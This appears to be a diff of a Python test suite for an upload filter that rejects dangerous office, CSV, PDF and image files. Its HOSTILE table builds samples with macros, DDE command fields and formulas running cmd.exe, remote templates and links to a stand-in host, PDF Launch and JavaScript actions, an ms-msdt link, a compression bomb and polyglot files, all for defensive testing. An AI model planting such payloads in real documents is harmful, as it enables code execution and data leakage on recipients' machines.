@@ -180,31 +180,31 @@ SETTINGS_RELS = "word/_rels/settings.xml.rels"
 
 #: Name → (file, what the reason says).
 HOSTILE: dict[str, tuple[str, bytes, str]] = {
-    "macros": ("宏.docx", edited(WORD, part("word/vbaProject.bin", OLE)), "宏"),
-    "macros under another name": ("宏.docx", edited(WORD, part("word/notes.bin", OLE)), "夹带"),
+    "macros": ("材料.docx", edited(WORD, part("word/vbaProject.bin", OLE)), "宏"),
+    "macros under another name": ("材料.docx", edited(WORD, part("word/notes.bin", OLE)), "夹带"),
     "a macro document by its type": (
-        "宏.docx",
+        "材料.docx",
         edited(
             WORD,
             content_type(f"application/vnd.openxmlformats-officedocument.{MAIN}", "application/vnd.ms-word.document.macroEnabled.main+xml"),
         ),
         "宏",
     ),
-    "a program": ("程序.docx", edited(WORD, part("word/media/image1.png", PROGRAM)), "夹带"),
-    "a program that says it is a sheet": ("程序.docx", edited(WORD, part("word/embeddings/Sheet1.xlsx", PROGRAM)), "夹带"),
-    "a packed program": ("程序.docx", edited(WORD, part("word/embeddings/Sheet1.xlsx", packed({"a.exe": PROGRAM}))), "夹带"),
+    "a program": ("材料.docx", edited(WORD, part("word/media/image1.png", PROGRAM)), "夹带"),
+    "a program that says it is a sheet": ("材料.docx", edited(WORD, part("word/embeddings/Sheet1.xlsx", PROGRAM)), "夹带"),
+    "a packed program": ("材料.docx", edited(WORD, part("word/embeddings/Sheet1.xlsx", packed({"a.exe": PROGRAM}))), "夹带"),
     "macros in a sheet within": (
-        "表.docx",
+        "材料.docx",
         edited(WORD, part("word/embeddings/Sheet1.xlsx", edited(EXCEL, part("xl/vbaProject.bin", OLE)))),
         "宏",
     ),
-    "an object": ("对象.docx", edited(WORD, part("word/embeddings/oleObject1.bin", OLE)), "嵌入的程序"),
-    "an old sheet": ("对象.docx", edited(WORD, part("word/embeddings/Sheet.xls", OLE)), "夹带"),
-    "a control": ("控件.docx", edited(WORD, part("word/activeX/activeX1.xml", b"<x/>")), "嵌入的程序"),
-    "DDE": ("域.docx", word(r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"'), "域"),
-    "DDE in small letters": ("域.docx", word(r" dde cmd x"), "域"),
+    "an object": ("材料.docx", edited(WORD, part("word/embeddings/oleObject1.bin", OLE)), "嵌入的程序"),
+    "an old sheet": ("材料.docx", edited(WORD, part("word/embeddings/Sheet.xls", OLE)), "夹带"),
+    "a control": ("材料.docx", edited(WORD, part("word/activeX/activeX1.xml", b"<x/>")), "嵌入的程序"),
+    "DDE": ("材料.docx", word(r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"'), "域"),
+    "DDE in small letters": ("材料.docx", word(r" dde cmd x"), "域"),
     "DDE in a simple field": (
-        "域.docx",
+        "材料.docx",
         edited(
             WORD,
             lambda p: p.update(
@@ -213,83 +213,83 @@ HOSTILE: dict[str, tuple[str, bytes, str]] = {
         ),
         "域",
     ),
-    "text from elsewhere": ("域.docx", word('INCLUDETEXT "http://192.0.2.1/x.docx"'), "域"),
-    "a picture field from elsewhere": ("域.docx", word(r'INCLUDEPICTURE "\\\\192.0.2.1\\x\\y.png" \d'), "域"),
+    "text from elsewhere": ("材料.docx", word('INCLUDETEXT "http://192.0.2.1/x.docx"'), "域"),
+    "a picture field from elsewhere": ("材料.docx", word(r'INCLUDEPICTURE "\\\\192.0.2.1\\x\\y.png" \d'), "域"),
     "a template from elsewhere": (
-        "模板.docx",
+        "材料.docx",
         edited(WORD, relation("attachedTemplate", "http://192.0.2.1/x.dotm", SETTINGS_RELS)),
         "外部模板",
     ),
     "a template of the network": (
-        "模板.docx",
+        "材料.docx",
         edited(WORD, relation("attachedTemplate", r"\\192.0.2.1\x\y.dotm", SETTINGS_RELS)),
         "外部模板",
     ),
-    "a picture from elsewhere": ("图.docx", edited(WORD, relation("image", "http://192.0.2.1/x.png")), "外部图片"),
-    "an object from elsewhere": ("图.docx", edited(WORD, relation("oleObject", "http://192.0.2.1/x")), "嵌入的程序"),
-    "a frame from elsewhere": ("框.docx", edited(WORD, relation("frame", "http://192.0.2.1/x.htm")), "外部内容"),
-    "a link that runs": ("链接.docx", edited(WORD, relation("hyperlink", "ms-msdt:/id PCWDiagnostic")), "不寻常的链接"),
-    "a link to a share": ("链接.docx", edited(WORD, relation("hyperlink", "file://192.0.2.1/x/y.exe")), "不寻常的链接"),
-    "entities": ("实体.docx", edited(WORD, lambda p: p.update({DOCX_PATH: b'<!DOCTYPE x [<!ENTITY a "b">]>' + p[DOCX_PATH]})), "DOCTYPE"),
+    "a picture from elsewhere": ("材料.docx", edited(WORD, relation("image", "http://192.0.2.1/x.png")), "外部图片"),
+    "an object from elsewhere": ("材料.docx", edited(WORD, relation("oleObject", "http://192.0.2.1/x")), "嵌入的程序"),
+    "a frame from elsewhere": ("材料.docx", edited(WORD, relation("frame", "http://192.0.2.1/x.htm")), "外部内容"),
+    "a link that runs": ("材料.docx", edited(WORD, relation("hyperlink", "ms-msdt:/id PCWDiagnostic")), "不寻常的链接"),
+    "a link to a share": ("材料.docx", edited(WORD, relation("hyperlink", "file://192.0.2.1/x/y.exe")), "不寻常的链接"),
+    "entities": ("材料.docx", edited(WORD, lambda p: p.update({DOCX_PATH: b'<!DOCTYPE x [<!ENTITY a "b">]>' + p[DOCX_PATH]})), "DOCTYPE"),
     "two parts of one name": (
-        "重名.docx",
+        "材料.docx",
         edited(WORD, part("WORD/document.XML", b"<x/>")),
         "重名",
     ),
-    "something before it": ("前面.docx", b"PK\x03\x04" + bytes(26) + WORD, "夹带了别的内容"),
-    "a bomb": ("炸弹.docx", edited(WORD, part("word/media/image1.png", PNG + bytes(60 << 20))), "压缩炸弹"),
-    "macros in a table": ("表.xlsx", edited(EXCEL, part("xl/vbaProject.bin", OLE)), "宏"),
+    "something before it": ("材料.docx", b"PK\x03\x04" + bytes(26) + WORD, "夹带了别的内容"),
+    "a bomb": ("材料.docx", edited(WORD, part("word/media/image1.png", PNG + bytes(60 << 20))), "压缩炸弹"),
+    "macros in a table": ("材料.xlsx", edited(EXCEL, part("xl/vbaProject.bin", OLE)), "宏"),
     "an old macro sheet": (
-        "表.xlsx",
+        "材料.xlsx",
         edited(EXCEL, content_type("spreadsheetml.worksheet+xml", "spreadsheetml.macrosheet+xml")),
         "宏",
     ),
-    "DDE in a cell": ("表.xlsx", excel("=cmd|'/c calc'!A0"), "公式"),
-    "an address in a cell": ("表.xlsx", excel('=_xlfn.WEBSERVICE("http://192.0.2.1/"&A1)'), "公式"),
+    "DDE in a cell": ("材料.xlsx", excel("=cmd|'/c calc'!A0"), "公式"),
+    "an address in a cell": ("材料.xlsx", excel('=_xlfn.WEBSERVICE("http://192.0.2.1/"&A1)'), "公式"),
     "a link to another program": (
-        "表.xlsx",
+        "材料.xlsx",
         edited(EXCEL, part("xl/externalLinks/externalLink1.xml", b'<externalLink><ddeLink ddeService="cmd" ddeTopic="x"/></externalLink>')),
         "数据源",
     ),
     "a link to another table": (
-        "表.xlsx",
+        "材料.xlsx",
         edited(EXCEL, relation("externalLinkPath", "http://192.0.2.1/x.xlsx", "xl/externalLinks/_rels/externalLink1.xml.rels")),
         "外部",
     ),
-    "DDE in plain text": ("表.csv", "甲,乙\n1,=cmd|'/c calc'!A0\n".encode(), "公式"),
-    "a table in another dress": ("表.csv", b"ID;P\nO;E\nC;K1;X1;Y1;ECALL()\nE\n", "不是可以上传"),
-    "a program started": ("启动.pdf", pdf(opening(action("Launch", F=TextStringObject("cmd.exe")))), "启动程序"),
-    "a program by pressing": ("启动.pdf", pdf(link(action("Launch", F=TextStringObject("cmd.exe")))), "启动程序"),
-    "a script": ("脚本.pdf", pdf(opening(action("JavaScript", JS=TextStringObject("app.alert(1)")))), "脚本"),
+    "DDE in plain text": ("材料.csv", "甲,乙\n1,=cmd|'/c calc'!A0\n".encode(), "公式"),
+    "a table in another dress": ("材料.csv", b"ID;P\nO;E\nC;K1;X1;Y1;ECALL()\nE\n", "不是可以上传"),
+    "a program started": ("材料.pdf", pdf(opening(action("Launch", F=TextStringObject("cmd.exe")))), "启动程序"),
+    "a program by pressing": ("材料.pdf", pdf(link(action("Launch", F=TextStringObject("cmd.exe")))), "启动程序"),
+    "a script": ("材料.pdf", pdf(opening(action("JavaScript", JS=TextStringObject("app.alert(1)")))), "脚本"),
     "a script after something else": (
-        "脚本.pdf",
+        "材料.pdf",
         pdf(opening(action("GoTo", D=TextStringObject("x"), Next=action("JavaScript", JS=TextStringObject("x"))))),
         "脚本",
     ),
     "a script on a page": (
-        "脚本.pdf",
+        "材料.pdf",
         pdf(lambda w: w.pages[0].update({NameObject("/AA"): named(O=action("JavaScript", JS=TextStringObject("x")))})),
         "脚本",
     ),
     "a script in other letters": (
-        "脚本.pdf",
+        "材料.pdf",
         pdf(opening(action("JavaScript", JS=TextStringObject("x")))).replace(b"/JavaScript", b"/J#61vaScript"),
         "脚本",
     ),
-    "a script in a packed object": ("脚本.pdf", in_object_stream(b"<</S/JavaScript/JS(app.alert\\(1\\))>>"), "脚本"),
-    "a program in a packed object": ("启动.pdf", in_object_stream(b"<</S/Launch/F(cmd.exe)>>"), "启动程序"),
-    "a file within": ("附件.pdf", pdf(lambda w: w.add_attachment("x.exe", PROGRAM)), "嵌入的文件"),
-    "an address by itself": ("地址.pdf", pdf(opening(action("URI", URI=TextStringObject("http://192.0.2.1/")))), "自行运行"),
-    "a form that goes out": ("表单.pdf", pdf(link(action("SubmitForm", F=TextStringObject("http://192.0.2.1/")))), "提交表单"),
-    "another file opened": ("打开.pdf", pdf(link(action("GoToR", F=TextStringObject("\\\\192.0.2.1\\x\\y.pdf")))), "动作"),
-    "a link that runs in a PDF": ("链接.pdf", pdf(link(action("URI", URI=TextStringObject("javascript:alert(1)")))), "不寻常的链接"),
-    "a locked one": ("密.pdf", pdf(lambda w: w.encrypt("secret")), "加密"),
-    "two kinds at once": ("两种.pdf", pdf() + packed({"a.exe": PROGRAM}), "夹带"),
-    "a picture that is a PDF": ("两种.png", PNG + pdf(), "又是 PDF"),
-    "a picture that is an archive": ("两种.png", PNG + packed({"a.exe": PROGRAM}), "夹带"),
-    "a program as text": ("程序.txt", PROGRAM, "不是可以上传"),
-    "a document as text": ("文.txt", rb"{\rtf1 {\field{\*\fldinst DDEAUTO cmd x}}}", "不是可以上传"),
-    "an archive": ("包.zip", packed({"a.txt": b"x"}), "不是可以上传"),
+    "a script in a packed object": ("材料.pdf", in_object_stream(b"<</S/JavaScript/JS(app.alert\\(1\\))>>"), "脚本"),
+    "a program in a packed object": ("材料.pdf", in_object_stream(b"<</S/Launch/F(cmd.exe)>>"), "启动程序"),
+    "a file within": ("材料.pdf", pdf(lambda w: w.add_attachment("x.exe", PROGRAM)), "嵌入的文件"),
+    "an address by itself": ("材料.pdf", pdf(opening(action("URI", URI=TextStringObject("http://192.0.2.1/")))), "自行运行"),
+    "a form that goes out": ("材料.pdf", pdf(link(action("SubmitForm", F=TextStringObject("http://192.0.2.1/")))), "提交表单"),
+    "another file opened": ("材料.pdf", pdf(link(action("GoToR", F=TextStringObject("\\\\192.0.2.1\\x\\y.pdf")))), "动作"),
+    "a link that runs in a PDF": ("材料.pdf", pdf(link(action("URI", URI=TextStringObject("javascript:alert(1)")))), "不寻常的链接"),
+    "a locked one": ("材料.pdf", pdf(lambda w: w.encrypt("secret")), "加密"),
+    "two kinds at once": ("材料.pdf", pdf() + packed({"a.exe": PROGRAM}), "夹带"),
+    "a picture that is a PDF": ("材料.png", PNG + pdf(), "又是 PDF"),
+    "a picture that is an archive": ("材料.png", PNG + packed({"a.exe": PROGRAM}), "夹带"),
+    "a program as text": ("材料.txt", PROGRAM, "不是可以上传"),
+    "a document as text": ("材料.txt", rb"{\rtf1 {\field{\*\fldinst DDEAUTO cmd x}}}", "不是可以上传"),
+    "an archive": ("材料.zip", packed({"a.txt": b"x"}), "不是可以上传"),
 }
 
 
@@ -334,7 +334,7 @@ class Person(httpx.Client):
 
     def hand_in(self, path: str, **form: Any) -> httpx.Response:
         page = self.post(path, **form)
-        while "/work/" in str(page.url) and 'data-over="1"' not in page.text:
+        while ("/work/" in str(page.url) and 'data-over="1"' not in page.text) or 'data-over=""' in page.text:
             time.sleep(0.1)
             page = self.get(str(page.url))
         return page
@@ -364,7 +364,7 @@ _numbers = iter(range(1, 10_000))
 
 
 def attach(client: Person, name: str, data: bytes) -> httpx.Response:
-    form = {"title": "虚构事项", "question": "虚构的问题？", "urgency": "普通", "days": "5", "firm": "", "key": f"k{next(_numbers)}"}
+    form = {"title": "虚构事项", "question": "虚构的问题？", "urgency": "一般", "days": "5", "firm": "", "key": f"k{next(_numbers)}"}
     return client.post("/staff/matters/new", data=form, files={"files": (name, data)})
 
 
